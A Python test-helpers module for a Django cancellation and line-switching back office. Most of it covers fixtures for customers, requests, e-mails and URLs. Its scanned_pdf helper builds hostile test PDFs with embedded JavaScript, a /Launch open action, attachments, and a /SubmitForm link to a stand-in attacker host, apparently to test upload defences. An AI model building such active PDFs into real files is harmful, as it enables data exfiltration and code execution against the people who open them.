"""What the tests share: people, requests, the back office's world, the worker, PDFs,
the API caller. Fixtures stay in the conftest.py files (pytest finds them); everything a
test imports comes from here."""

import base64
import io
import re
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import date, datetime
from threading import Barrier
from typing import Any

from django.core import mail
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import URLPattern, reverse
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from access_forms.forwarding import batch_forward
from access_forms.models import AccessLineForm
from access_forms.services import form_check
from access_forms.signing import Signature, form_sign
from accounts.models import User
from api.models import ApiKey
from backoffice import urls as backoffice_urls
from cancellations.drafts import Draft
from cancellations.models import CalendarOverride, CancellationRequest, PublicSubmission
from cancellations.submission import request_submit
from customers.models import Customer
from switching.matching import switch_match
from switching.models import Switch
from switching.ordering import switch_order
from toolbox.noumea import NOUMEA

PASSWORD = "correct-horse-battery"
# When `submit` receives its requests (a Thursday).
SUBMITTED_AT = datetime(2026, 11, 26, 10, tzinfo=NOUMEA)
# The back office tests' day: the day after the world's requests were received.
BACKOFFICE_DAY = datetime(2026, 11, 27, 9, 0, tzinfo=NOUMEA)
# The switching tests' moment (a Tuesday, no holiday near): switching/tests/conftest.py.
SWITCHING_MORNING = datetime(2026, 11, 10, 9, 0, tzinfo=NOUMEA)


# --- People and requests -------------------------------------------------------------------


def make_customer(code: str, name: str, email: str, language: str = "fr") -> Customer:
    user = User.objects.create_user(username=code, email=email, password=PASSWORD)
    return Customer.objects.create(
        client_code=code, name=name, email=email, language=language, user=user
    )


def submit(
    customer: Customer,
    reference: str | None = None,
    *,
    now: datetime = SUBMITTED_AT,
    ip: str | None = None,
    **fields: object,
) -> CancellationRequest:
    """The one way tests make a request: the customer's own, from the client area, for the
    subscription `reference` (their only one when None), received `now`; `fields` are the
    draft's (a definitive cancellation on 31 December 2026 unless said otherwise)."""
    subscriptions = customer.subscriptions.all()
    subscription = (
        subscriptions.get() if reference is None else subscriptions.get(reference=reference)
    )
    values: dict[str, object] = {"desired_date": date(2026, 12, 31), "kind": "definitive", **fields}
    draft = Draft(subscription=subscription, **values)  # type: ignore[arg-type]
    return request_submit(customer=customer, draft=draft, actor=customer.user, ip=ip, now=now)


def place_switch(
    key: ApiKey,
    customer: Customer,
    planned: date,
    *,
    reference: str = "SUB-A-1",
    now: datetime | None = None,
) -> Switch:
    """A switch ordered with a switching key for the customer's subscription `reference`
    (matched by its code and the holder's last name, then ordered for `planned`)."""
    assert key.provider is not None
    code = customer.subscriptions.get(reference=reference).switching_code
    match, _ = switch_match(
        provider=key.provider,
        actor=key.user,
        code_text=code,
        last_name=customer.name.split()[-1],
        now=now,
    )
    return switch_order(
        provider=key.provider,
        actor=key.user,
        match_id=match.public_id,
        planned_date=planned,
        now=now,
    )


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- The worker and what it delivers ---------------------------------------------------------


def run_worker() -> None:
    """Do the worker's work that is due (resilia.worker.PASS) until none is left: the
    public submissions' checks, the codes asked for again, the access links, the e-mails.
    Webhooks are left to their own tests (they reach real endpoints)."""
    from resilia.worker import PASS
    from webhooks.delivery import handle_one_webhook

    steps = [share.step for share in PASS if share.step is not handle_one_webhook]
    while any(step() for step in steps):
        pass


def delivered_link(pattern: str) -> str:
    """Deliver the queued e-mails and return the first link matching `pattern` (a regex
    with one group) in what reached the mailbox: stored copies hold only masked links."""
    run_worker()
    for message in reversed(mail.outbox):
        match = re.search(pattern, str(message.body))
        if match:
            return match.group(1)
    raise AssertionError(f"no delivered e-mail has a link matching {pattern!r}")


def delivered_code() -> str:
    """Deliver the queued e-mails and return the last 6-digit code that reached the
    mailbox (the public page's confirmation code; stored copies hold only a mask)."""
    run_worker()
    for message in reversed(mail.outbox):
        match = re.search(r"^\s+(\d{6})$", str(message.body), re.MULTILINE)
        if match:
            return match.group(1)
    raise AssertionError("no code was delivered")


# --- Forms: signatures and scans -------------------------------------------------------------


def sign(request: CancellationRequest) -> AccessLineForm:
    customer = request.customer
    return form_sign(
        form=request.access_form,
        signature=Signature(signer_name=customer.name, consent=True, typed=customer.name),
        actor=None,
        ip=None,
        user_agent="",
    )


def scanned_pdf(
    *,
    javascript: str = "",
    attachment: bytes = b"",
    open_action: bool = False,
    link_action: str = "",
    pages: int = 1,
) -> bytes:
    """A PDF as a scanner or "print to PDF" makes it, optionally made active: a script,
    an attached file, a /Launch on opening, or a link whose action is `link_action`
    (/SubmitForm, /GoToR …)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if link_action:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject(link_action),
                NameObject("/F"): TextStringObject("https://attacker.example/collect"),
            }
        )
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                                  NumberObject(595), NumberObject(842)]),
                NameObject("/A"): action,
            }
        )  # fmt: skip
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    if javascript:  # a document-level script, run when the file is opened
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        names = ArrayObject([TextStringObject("init"), writer._add_object(action)])
        tree = DictionaryObject({NameObject("/Names"): names})
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    if attachment:
        writer.add_attachment("extra.bin", attachment)
    if open_action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("x")}
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def drawn_png(blank: bool = False) -> str:
    image = Image.new("RGBA", (600, 200), (0, 0, 0, 0))
    if not blank:
        ImageDraw.Draw(image).line(
            [(40, 150), (200, 40), (320, 160), (560, 60)], fill=(0, 0, 0, 255), width=6
        )
    out = io.BytesIO()
    image.save(out, format="PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue()).decode()


# --- The back office's world -----------------------------------------------------------------


@dataclass
class World:
    alice: Customer
    bob: Customer
    signed: CancellationRequest  # Alice's fibre: its form signed, waiting for a check
    plain: CancellationRequest  # Alice's ADSL: no line, no form to sign
    bobs: CancellationRequest  # Bob's: form awaiting signature
    forwarded: AccessLineForm | None
    batch_reference: str


def build_world(alice: Customer, bob: Customer, agent: User) -> World:
    """Alice's two requests (one with a signed, unchecked form), Bob's received request,
    a batch sent to the operator (with RESILIA_AUTO_CONFIRM off)."""
    signed = submit(alice, "SUB-A-1")
    form = sign(signed)
    # As if it had been uploaded as a PDF: the sender's file, kept for supervisors.
    form.original_document.save("sent.pdf", ContentFile(b"%PDF-1.4 as sent"), save=True)
    plain = submit(alice, "SUB-A-2")
    bobs = submit(bob, "SUB-B-1")
    # A second world request whose form has left for the operator, for the batch pages.
    form = sign(bobs)
    form_check(form=form, valid=True, actor=agent)
    batch = batch_forward(actor=agent, ip=None)
    assert batch is not None
    return World(
        alice=alice,
        bob=bob,
        signed=signed,
        plain=plain,
        bobs=bobs,
        forwarded=AccessLineForm.objects.get(pk=form.pk),
        batch_reference=batch.reference,
    )


def public_submission_for_world(world: World) -> PublicSubmission:
    """A cancellation from the public page that names Alice and waits for an agent."""
    from django.utils import timezone

    return PublicSubmission.objects.create(
        token="world-submission",
        form_nonce="world-submission",
        received_at=timezone.now(),
        checked_at=timezone.now(),
        client_code=world.alice.client_code,
        last_name="Wayaridri",
        contact="+687 77 12 34",
        subscription_hint="254318",
        desired_date=date(2026, 12, 31),
        kind="definitive",
        language="fr",
    )


def url_kwargs(world: World) -> dict[str, dict[str, object]]:
    """Arguments for every back office URL that takes some."""
    from api.keys import api_key_create
    from webhooks.services import webhook_endpoint_create

    override = CalendarOverride.objects.create(day="2026-12-24", kind="closed", name="Pont")
    from django.test import override_settings

    owner = User.objects.get(username="agent")
    api_key, _ = api_key_create(name="Facturation", scope="read", expires_at=None, actor=owner)
    with override_settings(RESILIA_WEBHOOK_ALLOW_PRIVATE=True):  # no DNS in tests
        endpoint, _ = webhook_endpoint_create(
            url="https://crm.example.nc/hooks", event_types=[], description="", actor=owner
        )
    submission = public_submission_for_world(world)
    return {
        "request_detail": {"reference": world.signed.reference},
        "request_receipt": {"reference": world.signed.reference},
        "request_action": {"reference": world.signed.reference, "action": "note"},
        "customer_detail": {"client_code": world.alice.client_code},
        "verification_detail": {"pk": submission.pk},
        "verification_action": {"pk": submission.pk, "action": "refuser"},
        "new_request": {"client_code": world.alice.client_code},
        "new_request_summary": {"client_code": world.alice.client_code},
        "send_access_link": {"client_code": world.alice.client_code},
        "form_detail": {"pk": world.signed.access_form.pk},
        "form_document": {"pk": world.signed.access_form.pk},
        "form_original": {"pk": world.signed.access_form.pk},
        "batch_detail": {"reference": world.batch_reference},
        "calendar_remove": {"pk": override.pk},
        "staff_change": {"pk": owner.pk},
        "api_key_revoke": {"pk": api_key.pk},
        "endpoint_detail": {"pk": endpoint.pk},
        "endpoint_action": {"pk": endpoint.pk, "action": "test"},
    }


def every_backoffice_url(world: World) -> dict[str, str]:
    kwargs = url_kwargs(world)
    urls = {}
    for pattern in backoffice_urls.urlpatterns:
        assert isinstance(pattern, URLPattern)
        name = pattern.name or ""
        urls[name] = reverse(f"backoffice:{name}", kwargs=kwargs.get(name))
    return urls


# --- The API ------------------------------------------------------------------------------

Call = Callable[..., Any]


def key_named(name: str) -> ApiKey:
    return ApiKey.objects.get(name=name)


# --- Requests sent together -------------------------------------------------------------


def together[T](calls: list[Callable[[], T]]) -> list[T]:
    """Each call in its own thread, all released at once (a barrier): requests that arrive
    together at a live server, each on its own connection."""
    barrier = Barrier(len(calls))

    def run(call: Callable[[], T]) -> T:
        barrier.wait(timeout=30)
        return call()

    with ThreadPoolExecutor(len(calls)) as pool:
        return list(pool.map(run, calls))
